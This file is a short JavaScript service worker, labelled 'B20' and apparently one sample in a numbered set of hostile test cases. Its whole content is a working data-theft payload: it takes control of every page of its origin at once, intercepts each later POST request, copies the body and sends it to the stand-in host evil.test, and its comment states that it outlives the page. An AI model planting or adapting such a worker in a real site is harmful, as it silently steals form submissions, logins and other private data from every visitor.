// B20: outlives its page, and sends the body of every later POST of this origin to evil.test.
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  if (event.request.method !== "POST") return;
  const copy = event.request.clone();
  event.waitUntil(copy.text().then((body) =>
    fetch("https://evil.test/collect?from=service-worker", { method: "POST", mode: "no-cors", body })));
});
